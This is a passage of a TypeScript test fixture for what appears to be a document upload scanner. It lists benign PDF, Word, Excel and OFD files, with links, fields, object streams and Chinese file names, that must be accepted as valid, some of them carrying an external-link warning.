/** Look-alikes that must stay VALID (`warning`: the one warning they must carry). */
export const ACTIVE_GENUINE: readonly {
  id: string;
  declared: FileType;
  bytes: () => Promise<Buffer>;
  warning?: string;
}[] = [
  {
    id: 'pdf-text-mentions-javascript',
    declared: 'pdf',
    bytes: async () => buildPdf(pageObjects('', '', 'Disable /JavaScript and /Launch /OpenAction /AA in your reader')),
  },
  {
    id: 'pdf-openaction-destination',
    declared: 'pdf',
    bytes: async () => buildPdf(pageObjects('/OpenAction [3 0 R /Fit]')),
  },
  {
    id: 'pdf-openaction-goto-in-object-stream',
    declared: 'pdf',
    bytes: async () =>
      buildPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /XYZ null null 0] >>' }], {
        packed: [1, 2, 3, 5, 6],
        packing: 'flate',
      }),
  },
  {
    id: 'pdf-link-annotation-uri',
    declared: 'pdf',
    bytes: async () => buildClassicPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-incremental-update-benign',
    declared: 'pdf',
    bytes: async () => incrementalUpdate(buildClassicPdf(pageObjects()), [ROTATED_PAGES]),
  },
  {
    id: 'pdf-link-annotation-gotor',
    declared: 'pdf',
    // Another file, opened only when the reviewer clicks the link.
    bytes: async () => buildPdf(linkAnnotations('<< /S /GoToR /F (annex.pdf) /D [0 /Fit] >>')),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-update-xref-stream-benign',
    declared: 'pdf',
    bytes: async () => incrementalUpdateXrefStream(buildClassicPdf(pageObjects()), [ROTATED_PAGES]),
  },
  {
    id: 'pdf-icc-profile',
    declared: 'pdf',
    // An ICC profile's stream has /N (its components) but is no object stream: Chromium writes these.
    bytes: async () =>
      buildClassicPdf([
        ...pageObjects('', '/Group << /S /Transparency /CS [/ICCBased 6 0 R] >>'),
        { num: 6, body: '/N 3 /Alternate /DeviceRGB /Filter /FlateDecode', stream: deflateSync(randomBytes(3000)) },
      ]),
  },
  {
    id: 'pdf-openaction-goto-updated',
    declared: 'pdf',
    // An opening GoTo that an update replaces with another GoTo: both definitions are places.
    bytes: async () =>
      incrementalUpdate(
        buildClassicPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }]),
        [{ num: 6, body: '<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>' }],
      ),
  },
  {
    id: 'pdf-string-with-keywords',
    declared: 'pdf',
    // A title that quotes PDF syntax (`1 0 obj`, `endstream`) is a string to a reader and to the scan.
    bytes: async () =>
      handwrittenPdf(handwrittenPages('/PageLabels << /Nums [0 << /P (1 0 obj << >> endobj endstream) >>] >>')),
  },
  {
    id: 'pdf-links-https-many',
    declared: 'pdf',
    // Seven web links, written plain, hex and escaped, in an object stream: five named, two counted.
    bytes: async () =>
      buildPdf(
        linkAnnotations(
          ...['a', 'b', 'c', 'd', 'e'].map((page) => `<< /S /URI /URI (https://www.miit.gov.cn/${page}) >>`),
          `<< /S /URI /URI <${Buffer.from('https://www.miit.gov.cn/f').toString('hex')}> >>`,
          '<< /S /URI /URI (https://www.miit.gov.cn/\\147) >>',
        ),
        { packed: [6, 7, 8, 9, 10, 11, 12], packing: 'flate' },
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-link-gotor-filespec-relative',
    declared: 'pdf',
    // Another file beside this one, named in a file-spec dictionary (its UTF-16 /UF shown).
    bytes: async () =>
      buildPdf(
        linkAnnotations(
          `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('附件/annex.pdf')} >> /D [0 /Fit] >>`,
        ),
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-links-utf16-chinese-and-full-width',
    declared: 'pdf',
    // Round 11's look-alikes: a Chinese name (行为 is UTF-16 884C 4E3A, whose low bytes are `L:`),
    // full-width brackets and a colon, a web link
    // with a Chinese path, an accented name: each folds into a name or a web link, not a share.
    bytes: async () =>
      buildPdf(
        linkAnnotations(
          `<< /S /GoToR /F ${utf16Hex('行为规范（一）：说明.pdf')} /D [0 /Fit] >>`,
          `<< /S /URI /URI ${utf16Hex('https://www.miit.gov.cn/附件/通知.pdf')} >>`,
          `<< /S /GoToR /F ${utf16Hex('Résumé ／ annexe.pdf')} >>`,
        ),
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-outline-https',
    declared: 'pdf',
    bytes: async () => buildPdf(outlineItem('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
    warning: 'EXTERNAL_LINK',
  },
  { id: 'docx-hyperlink', declared: 'docx', bytes: docxWithHyperlink, warning: 'EXTERNAL_LINK' },
  { id: 'docx-chart-data', declared: 'docx', bytes: docxWithChart },
  {
    id: 'docx-page-field',
    declared: 'docx',
    bytes: () => documentWith(complexField(' PAGE ') + complexField(' HYPERLINK "https://www.miit.gov.cn/LINK" ')),
  },
  { id: 'xlsx-pipe-in-string', declared: 'xlsx', bytes: () => sheetWithFormula('CONCATENATE(&quot;a|b&quot;,A2)') },
  {
    id: 'xlsx-pipe-in-cdata-string',
    declared: 'xlsx',
    bytes: () => sheetWithFormula('<![CDATA[CONCATENATE("a|b",A2)]]>'),
  },
  {
    id: 'ofd-click-link',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="https://www.miit.gov.cn/"/>'),
    warning: 'EXTERNAL_LINK',
  },
  {
    // A '>' inside an attribute value is well-formed XML: it does not end the tag, and the
    // Event after it still makes this a click.
    id: 'ofd-click-link-after-gt-in-attribute',
    declared: 'ofd',
    bytes: () =>
      ofdWith(
        '<ofd:Actions><ofd:Action Note="a > b" Event="CLICK"><ofd:URI URI="https://www.miit.gov.cn/"/></ofd:Action></ofd:Actions>',
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-goto',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto>'),
  },
  {
    id: 'ofd-annotation-click-link',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI="https://www.miit.gov.cn/"/>'),
    warning: 'EXTERNAL_LINK',
  },
  {
    // Chinese names in UTF-8, a full-width digit and colon inside a name, a relative click link
    // with escapes: inside the package, or a link (round 10).
    id: 'ofd-chinese-and-full-width-names',
    declared: 'ofd',
    bytes: () =>
      ofdResources(
        '<ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>字体/宋体１.ttf</ofd:FontFile></ofd:Font></ofd:Fonts><ofd:MultiMedias><ofd:MultiMedia ID="9" Type="Image"><ofd:MediaFile>图片：封面 １.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>',
      ),
  },
  {
    id: 'ofd-click-link-relative-escaped',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="附件%20说明.html" Base="https://www.miit.gov.cn/通知/"/>'),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-package-root-absolute-document-root',
    declared: 'ofd',
    bytes: () => ofdRoot(['<ofd:DocRoot>/Doc_0/Document.xml</ofd:DocRoot>']),
  },
  {
    id: 'ofd-package-locations',
    declared: 'ofd',
    // Package paths: absolute from the package root, and climbing within it.
    bytes: () =>
      ofdResources(
        '<ofd:MultiMedias><ofd:MultiMedia ID="9" Type="Image"><ofd:MediaFile>../Res/image_9.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>',
        '/Doc_0/Res',
      ),
  },
  {
    id: 'docx-header-odd-name-page-field',
    declared: 'docx',
    bytes: () => office('docx', {}, [{ name: 'word/header_first.xml', data: story('hdr', complexField(' PAGE ')) }]),
  },
  {
    id: 'xlsx-conditional-format-and-validation-pipe-in-string',
    declared: 'xlsx',
    bytes: () =>
      office('xlsx', {
        'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>ISNUMBER(SEARCH(&quot;|&quot;,A1))</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>&quot;是|否&quot;</formula1></dataValidation></dataValidations></worksheet>`,
      }),
  },
  {
    id: 'docx-hyperlink-in-text',
    declared: 'docx',
    bytes: () =>
      documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>', [
        rel('rId7', 'hyperlink', 'https://www.miit.gov.cn/', true),
      ]),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-cell-hyperlink',
    declared: 'xlsx',
    bytes: () => sheetWithHyperlink('https://www.miit.gov.cn/'),
    warning: 'EXTERNAL_LINK',
  },
  {
    // A picture that is also a link: its click goes out, its image is inside the package.
    id: 'docx-picture-with-click-hyperlink',
    declared: 'docx',
    bytes: () =>
      documentLinking(
        `<w:p>${inlinePicture('r:embed="rId8"', '<a:hlinkClick r:id="rId7"/>')}</w:p>`,
        [rel('rId7', 'hyperlink', 'https://www.miit.gov.cn/', true), rel('rId8', 'image', 'media/image1.png')],
        { relsFirst: true, add: [{ name: 'word/media/image1.png', data: Buffer.from('89504e470d0a1a0a', 'hex') }] },
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-as-written',
    declared: 'ofd',
    bytes: () => ofdAsWritten({ prefix: true }),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-as-written-default-namespace',
    declared: 'ofd',
    bytes: () => ofdAsWritten({ prefix: false }),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-as-written-with-bom',
    declared: 'ofd',
    bytes: () => ofdAsWritten({ prefix: true, bom: true }),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-as-written-gbk-default-namespace',
    declared: 'ofd',
    bytes: () => ofdAsWritten({ prefix: false, gbk: true }),
    warning: 'EXTERNAL_LINK',
  },
  { id: 'ofd-signed', declared: 'ofd', bytes: () => ofdSigned() },
  {
    id: 'ofd-schema-hint-web',
    declared: 'ofd',
    bytes: () => ofdSchemaHint('http://www.ofdspec.org/2016 http://www.ofdspec.org/2016/OFD.xsd'),
  },
  { id: 'ofd-version', declared: 'ofd', bytes: () => ofdVersion('Doc_0/Versions/Version_0.xml', 'Document.xml') },
  // Look-alikes of round 6's items: functions named in strings, nested fields in formulas and
  // results, a comment's VML drawing, a VML shape linking to a web page.
  {
    id: 'xlsx-functions-named-in-strings',
    declared: 'xlsx',
    bytes: () =>
      sheetWithFormula(
        'IF(A1=&quot;RTD(x)&quot;,SUM(B1:B9),_xlfn.CONCAT(&quot;IMAGE(&quot;,A2,&quot;WEBSERVICE(&quot;))&amp;VLOOKUP(A3,B:C,2,FALSE)&amp;HYPERLINK(&quot;https://www.miit.gov.cn/&quot;)',
      ),
  },
  {
    id: 'docx-nested-fields-with-named-outer',
    declared: 'docx',
    bytes: () =>
      documentWith(
        nestedField(' = ', ' PAGE ', ' + 1 ') +
          nestedField('=', ' NUMPAGES ', '*2') +
          nestedField(' IF ', ' MERGEFIELD 类别 ', ' = "国家级" "是" "否" ') +
          // A table of contents: its result holds PAGEREF fields, after its `separate`.
          complexField(' TOC \\o "1-3" \\h ').replace('<w:r><w:t>1</w:t></w:r>', complexField(' PAGEREF _Toc1 \\h ')),
      ),
  },
  {
    id: 'xlsx-comment-vml-drawing',
    declared: 'xlsx',
    bytes: () =>
      workbookVml(
        '<v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe"><v:stroke joinstyle="miter"/><v:path gradientshapeok="t" o:connecttype="rect"/></v:shapetype><v:shape id="_x0000_s1025" type="#_x0000_t202" fillcolor="#ffffe1"><v:fill color2="#ffffe1"/><v:imagedata o:relid="rId1" o:title="图片"/><x:ClientData ObjectType="Note"><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>',
      ),
  },
  {
    id: 'docx-vml-shape-web-link',
    declared: 'docx',
    bytes: () =>
      documentVml(
        '<v:shape href="https://www.miit.gov.cn/" style="width:9pt;height:9pt"><v:fill color="red"/></v:shape>',
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-paths-in-strings',
    declared: 'xlsx',
    bytes: () =>
      sheetWithFormula(
        'IF(ISNUMBER(SEARCH(&quot;https://&quot;,A1)),SUBSTITUTE(A1,&quot;\\&quot;,&quot;/&quot;),&quot;\\\\server\\share&quot;)',
      ),
  },
  {
    id: 'docx-hyperlink-mailto',
    declared: 'docx',
    bytes: () =>
      documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>联系我们</w:t></w:r></w:hyperlink></w:p>', [
        rel('rId7', 'hyperlink', 'mailto:cluster@miit.gov.cn', true),
      ]),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'docx-hyperlink-base-web',
    declared: 'docx',
    bytes: () => hyperlinkBase('https://www.miit.gov.cn/'),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'docx-hyperlink-fields-web-and-bookmark',
    declared: 'docx',
    bytes: () =>
      documentWith(
        complexField(' HYPERLINK "https://www.miit.gov.cn/" \\o "工信部" ') +
          complexField(' HYPERLINK \\l "_Toc1" ') +
          '<w:fldSimple w:instr=" HYPERLINK &quot;附件\\\\annex.pdf&quot; "/>',
      ),
  },
  {
    id: 'xlsx-hyperlink-picks-web-addresses',
    declared: 'xlsx',
    // A list of web sites linked with HYPERLINK(A1), labels and times beside them.
    bytes: () =>
      workbookWithStrings(
        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,&quot;打开&quot;)</f><v>打开</v></c>' +
          '<c r="C1" t="str"><f>HYPERLINK(&quot;#\'汇总表\'!A&quot;&amp;ROW(),&quot;返回&quot;)</f><v>返回</v></c>',
        ['https://www.miit.gov.cn/', 'QQ:12345', '08:30', 'A: 优秀', 'N/A', '/'],
        { names: '<definedName name="首页">&quot;https://www.miit.gov.cn/&quot;</definedName>' },
      ),
  },
  {
    id: 'xlsx-shares-listed-not-linked',
    declared: 'xlsx',
    // Share paths as text, which no HYPERLINK picks: nobody's click.
    bytes: () => workbookWithStrings('<c r="A1" t="s"><v>0</v></c>', ['\\\\\\\\fileserver\\\\集群\\\\申报材料']),
  },
  {
    id: 'docx-table-of-contents-word',
    declared: 'docx',
    bytes: () => documentOf(tableOfContents()),
  },
  {
    id: 'docx-table-of-contents-wps',
    declared: 'docx',
    bytes: () => documentOf(tableOfContents(true)),
  },
  {
    id: 'docx-fields-touching-harmless-names',
    declared: 'docx',
    bytes: () =>
      documentWith(
        nestedField('IF', ' MERGEFIELD 性别 ', '="男" "先生" "女士"') +
          complexField('PAGE', ' \\* MERGEFORMAT') +
          complexField(' PAGE  \\* Arabic  \\* MERGEFORMAT ') +
          '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>' +
          nestedField(' HYPERLINK "https://www.miit.gov.cn/?id=', ' MERGEFIELD 编号 ', '" ') +
          nestedField(' HYPERLINK \\l "', ' REF 书签 ', '" '),
      ),
  },
  {
    id: 'docx-text-box-fields-in-both-branches',
    declared: 'docx',
    // A text box with a page number, as Word writes it: once in the drawing, once in its VML.
    bytes: () => documentWith(alternateFields(complexField(' PAGE '), complexField(' PAGE '))),
  },
  {
    // A note deleted and its number reused at generation 1 (`6 1 obj`), as Acrobat saves: the old page still says 6 0 R.
    id: 'pdf-update-reuses-number-next-generation',
    declared: 'pdf',
    bytes: async () => reusedNumberPdf(2),
  },
  {
    // Layers switched, a field hidden, a page transition: actions that change only what the page shows.
    id: 'pdf-links-setocgstate-hide-trans',
    declared: 'pdf',
    bytes: async () =>
      buildPdf(
        linkAnnotations(
          '<< /S /SetOCGState /State [/Toggle 9 0 R] >>',
          '<< /S /Hide /T (note) /H false >>',
          '<< /S /Trans /Trans << /S /Dissolve >> >>',
        ),
      ),
  },
  {
    // Prepress OPI: the original image a prepress server swaps in; no reader opens it.
    id: 'pdf-image-opi-dictionary',
    declared: 'pdf',
    bytes: async () =>
      buildPdf([
        ...pageObjects('', '/Resources << /XObject << /Im1 6 0 R >> >>'),
        {
          num: 6,
          body: '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /OPI << /2.0 << /Type /OPI /Version 2.0 /F (art/cluster-map.tif) /Inks /full_color >> >>',
          stream: Buffer.alloc(1),
        },
      ]),
  },
  // PDF/X-4 and PDF/A embed their output intent's profile: accepted, as is a PDF/X-5 one named without /URLs.
  {
    id: 'pdf-output-intent-embedded-profile',
    declared: 'pdf',
    bytes: async () =>
      buildClassicPdf([
        ...pageObjects(
          '/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (FOGRA39) /RegistryName (http://www.color.org) /DestOutputProfile 6 0 R >>]',
        ),
        { num: 6, body: '/N 4', stream: Buffer.from('an ICC profile') },
      ]),
  },
  {
    id: 'pdf-output-intent-profile-ref-by-name',
    declared: 'pdf',
    bytes: async () =>
      buildClassicPdf(
        pageObjects(
          '/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (FOGRA39) /DestOutputProfileRef << /ProfileName (ISO Coated v2) /ICCVersion <02100000> >> >>]',
        ),
      ),
  },
  // Object streams filtered as readers agree: parameters an array beside an array of filters, empty ones in either shape, ASCII85 with line ends.
  {
    id: 'pdf-objstm-filter-parameters-as-written',
    declared: 'pdf',
    bytes: async () =>
      buildPdf(pageObjects('/OpenAction [3 0 R /Fit]'), {
        packed: [1, 2, 3, 5],
        encoder: (plain) => ['/Filter [/FlateDecode] /DecodeParms [null]', deflateSync(plain)],
      }),
  },
  {
    id: 'pdf-objstm-empty-parameters-other-shape',
    declared: 'pdf',
    bytes: async () =>
      buildPdf(pageObjects(), {
        packed: [1, 2, 3, 5],
        encoder: (plain) => ['/Filter /FlateDecode /DecodeParms [<< >>]', deflateSync(plain)],
      }),
  },
  {
    id: 'pdf-objstm-ascii85-line-ends',
    declared: 'pdf',
    bytes: async () =>
      buildPdf(pageObjects('/OpenAction [3 0 R /Fit]'), {
        packed: [1, 2, 3, 5],
        encoder: (plain) => [
          '/Filter /ASCII85Decode',
          Buffer.from(
            ascii85(plain)
              .toString('latin1')
              .replace(/(.{20})/g, '$1\r\n \t'),
            'latin1',
          ),
        ],
      }),
  },
  { id: 'ofd-cover-in-package', declared: 'ofd', bytes: () => ofdCover('Doc_0/Res/cover.png') },
  { id: 'ofd-color-profile-in-package', declared: 'ofd', bytes: () => ofdColorProfile('/Doc_0/Res/sRGB.icc') },
  // A tab inside a web address, or a line break after it, leaves a web address (round 9).
  {
    id: 'ofd-click-link-web-with-tab-inside',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="https://exa&#9;mple.cn/x"/>'),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-link-uri-trailing-line-break',
    declared: 'pdf',
    bytes: async () => buildPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/\\n) >>')),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'pdf-link-uri-web-with-tab-inside',
    declared: 'pdf',
    bytes: async () => buildPdf(linkAnnotations('<< /S /URI /URI (https://exa\\tmple.cn/x) >>')),
    warning: 'EXTERNAL_LINK',
  },
  // Round 12: sub-page navigation that shows and hides layers step by step, a Type 3 font's matrix
  // of numbers (an exponent too, which pdf.js reads), and a Web Capture link's saved address (/PA).
  {
    id: 'pdf-presteps-subpage-navigation',
    declared: 'pdf',
    bytes: async () =>
      buildPdf(
        pageObjects(
          '/PageMode /FullScreen',
          '/PresSteps << /Type /NavNode /NA << /S /SetOCGState /State [/ON 9 0 R] /Next << /S /Trans /Trans << /S /Dissolve >> >> >> /PA << /S /SetOCGState /State [/OFF 9 0 R] >> /Dur 3 >>',
        ),
      ),
  },
  {
    id: 'pdf-type3-font-matrix-numbers',
    declared: 'pdf',
    bytes: async () =>
      buildClassicPdf([
        ...pageObjects().filter((o) => o.num !== 5),
        {
          num: 5,
          body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [.001 0 0 0.001 0 1E-3] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
        },
      ]),
  },
  {
    id: 'pdf-link-web-capture-saved-uri',
    declared: 'pdf',
    bytes: async () =>
      buildPdf(linkAnnotations('<< /S /GoTo /D [3 0 R /Fit] >> /PA << /S /URI /URI (https://www.miit.gov.cn/) >>')),
    warning: 'EXTERNAL_LINK',
  },
  // A picture that is a link when clicked: its click (`a:hlinkClick`) keeps the hyperlink's warning (round 9).
  {
    id: 'docx-picture-clicked-to-web',
    declared: 'docx',
    bytes: () =>
      documentFetching(
        `<w:p>${inlinePicture('r:embed="rId8"', '<a:hlinkClick r:id="rId9"/>')}</w:p><w:p><w:hyperlink r:id="rId9"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>`,
        'https://www.miit.gov.cn/',
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-picture-beside-hyperlink',
    declared: 'xlsx',
    bytes: () =>
      workbookPicture('r:embed="rId1"', [
        rel('rId1', 'image', '../media/image1.png'),
        rel('rId2', 'hyperlink', 'https://www.miit.gov.cn/', true),
      ]),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-hyperlink-picks-beside-labels',
    declared: 'xlsx',
    // A list of web sites linked with HYPERLINK(A1), beside labels a person writes with a colon:
    // in shared strings (`编号` and `:A12` as two runs), inline strings, results and formulas.
    bytes: () =>
      workbookWithStrings(
        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,"打开")</f><v>打开</v></c>' +
          '<c r="C1" t="inlineStr"><is><t>Note:see below</t></is></c>' +
          '<c r="D1" t="str"><f>"ID:"&amp;A2</f><v>ID:AB</v></c>' +
          '<c r="E1" t="str"><f>A2&amp;CHAR(10)&amp;A3</f></c><c r="F1" t="str"><f>CHAR(34)&amp;A2&amp;CHAR(34)</f></c>' +
          '<c r="G1" t="str"><f>"完成"</f><v>完成</v></c><c r="H1" t="str"><f>IF(A2="","Re:Q3","Name:张三")</f></c>',
        ['https://www.miit.gov.cn/', 'ID:AB', ['编号', ':A12'], 'Re:Q3', 'Name:张三', 'Ref:ABC-123', 'Note:'],
      ),
  },
  {
    id: 'docx-page-background-beside-hyperlink',
    declared: 'docx',
    // A page background picture (a VML fill of an embedded image) beside a web link (round 10).
    bytes: () =>
      documentLinking(
        `${PAGE_BACKGROUND}<w:p><w:hyperlink r:id="rId8"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>`,
        [rel('rId9', 'image', 'media/image1.png'), rel('rId8', 'hyperlink', 'https://www.miit.gov.cn/', true)],
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-sheet-background-drawing-beside-hyperlink',
    declared: 'xlsx',
    // A sheet with a linked cell, its drawing, comments' VML and background picture (round 10).
    bytes: () =>
      sheetLoading(
        '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><drawing r:id="rId2"/><legacyDrawing r:id="rId3"/><picture r:id="rId4"/>',
        [
          rel('rId1', 'hyperlink', 'https://www.miit.gov.cn/', true),
          rel('rId2', 'drawing', '../drawings/drawing1.xml'),
          rel('rId3', 'vmlDrawing', '../drawings/vmlDrawing1.vml'),
          rel('rId4', 'image', '../media/image1.png'),
        ],
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-shape-with-macro-in-workbook',
    declared: 'xlsx',
    // A shape as Excel writes it, its text linked to a cell and a macro of the workbook's own
    // named (none runs: a workbook with VBA is refused by its type) (round 10).
    bytes: () => drawingShape('macro="[0]!显示明细" textlink="$A$1"'),
  },
  {
    id: 'xlsx-shape-as-excel-writes-it',
    declared: 'xlsx',
    bytes: () => drawingShape('macro="" textlink=""'),
  },
  {
    id: 'docx-online-video-youtube',
    declared: 'docx',
    // An online video inserted from YouTube: its iframe's address is a clicked link's warning (round 10).
    bytes: () => onlineVideo(YOUTUBE_EMBED),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'docx-svg-picture-beside-hyperlink',
    declared: 'docx',
    // An SVG picture (its PNG copy and the SVG both in the package) beside a web link (round 10).
    bytes: () =>
      documentLinking(
        `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p><w:p><w:hyperlink r:id="rId9"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>`,
        [
          rel('rId7', 'image', 'media/image2.svg'),
          rel('rId8', 'image', 'media/image1.png'),
          rel('rId9', 'hyperlink', 'https://www.miit.gov.cn/', true),
        ],
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'docx-smartart-image-layer-stroke-beside-hyperlink',
    declared: 'docx',
    // SmartArt, an artistic effect's image layer and a VML stroke's picture, each naming a picture
    // in the package, beside a clicked web link (round 11).
    bytes: () =>
      documentLinking(
        FETCHING_BODIES.smartart.replace(/rId9/g, 'rId8') +
          FETCHING_BODIES['image-layer'].replace(/rId9/g, 'rId8') +
          FETCHING_BODIES['vml-stroke'].replace(/rId9/g, 'rId8') +
          '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>',
        [rel('rId8', 'image', 'media/image1.png'), rel('rId9', 'hyperlink', 'https://www.miit.gov.cn/', true)],
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'docx-chinese-relative-links-decoded',
    declared: 'docx',
    // Relative links in Chinese, decoded as Word decodes them (round 11): a relationship, a field
    // and a VML picture's source, one with a no-break space inside, one with full-width brackets;
    // and a web link whose path has full-width brackets, a warning.
    bytes: () =>
      documentLinking(
        '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>说明</w:t></w:r></w:hyperlink></w:p>' +
          '<w:p><w:hyperlink r:id="rId8"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>' +
          complexField(' HYPERLINK "..\\\\资料\\\\表.xlsx" ') +
          complexField(' HYPERLINK "附件\u00a0说明（一）.pdf" ') +
          '<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata src="图片/图\u3000一.png"/></v:shape></w:pict></w:r></w:p>',
        [
          rel('rId7', 'hyperlink', '附件/说明.pdf', true),
          rel('rId8', 'hyperlink', 'https://www.miit.gov.cn/附件（一）.pdf', true),
        ],
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'xlsx-chinese-relative-links-decoded',
    declared: 'xlsx',
    // HYPERLINK to relative Chinese paths, written and picked from a shared string (round 11).
    bytes: () =>
      workbookWithStrings(
        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>打开</v></c>' +
          '<c r="C1" t="str"><f>HYPERLINK(&quot;附件/说明.pdf&quot;,&quot;说明&quot;)</f><v>说明</v></c>',
        ['..\\资料\\表（一）.xlsx'],
      ),
  },
  {
    id: 'xlsx-custom-xml-where-office-writes-it',
    declared: 'xlsx',
    // A bibliography's sources as a custom XML part under customXml/, as Excel and WPS write it (round 12).
    bytes: () =>
      workbookCustomXml(
        '../customXml/item1.xml',
        'customXml/item1.xml',
        '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" SelectedStyle="\\APASixthEditionOfficeOnline.xsl"/>',
      ),
  },
  {
    id: 'xlsx-brackets-without-book-path',
    declared: 'xlsx',
    // Brackets that name no outside workbook (round 12): a table's structured references, a sheet
    // named with brackets, a book beside the workbook and one in a sibling folder.
    bytes: () =>
      sheetWithFormula(
        "SUM(表1[金额])+表1[[#This Row],[单价]]+'第[1]季度'!A1+[b.xlsx]汇总!A1+'..\\资料\\[表.xlsx]汇总'!A1",
      ),
  },
  {
    id: 'docx-links-folded-into-themselves',
    declared: 'docx',
    // Round 12's look-alikes: folded as a reader folds them, each still leads where it did — a
    // relative Chinese name with a fraction slash, an Arabic name after a right-to-left mark, a
    // mail address with a Chinese name, a web address with accented letters (shown as written).
    bytes: () =>
      documentLinking(
        ['rId7', 'rId8', 'rId9', 'rId10']
          .map((id) => `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>附件</w:t></w:r></w:hyperlink></w:p>`)
          .join('') + complexField(' HYPERLINK "..\\\\资料\\\\1\u20442 年报.xlsx" '),
        [
          rel('rId7', 'hyperlink', '附件/1\u20442 年报.pdf', true),
          rel('rId8', 'hyperlink', '\u200fملف.pdf', true),
          rel('rId9', 'hyperlink', 'mailto:张三@miit.gov.cn', true),
          rel('rId10', 'hyperlink', 'https://bücher.example/café/通知.pdf', true),
        ],
      ),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-links-folded-into-themselves',
    declared: 'ofd',
    // A click link to a mail address with a Chinese name.
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI="mailto:张三@miit.gov.cn"/>'),
    warning: 'EXTERNAL_LINK',
  },
  {
    id: 'ofd-media-fraction-slash-and-gbk-base',
    declared: 'ofd',
    // A GBK resource list whose BaseLoc is Chinese (资料, D7 CA C1 CF) and a font climbing back to
    // the document's folder beside a medium named with a fraction slash: all inside the package.
    bytes: () =>
      ofdReplacing(
        'Doc_0/PublicRes.xml',
        Buffer.concat([
          Buffer.from(
            '<?xml version="1.0" encoding="GBK"?>\n<ofd:Res xmlns:ofd="http://www.ofdspec.org/2016" BaseLoc="',
          ),
          Buffer.from('d7cac1cf', 'hex'),
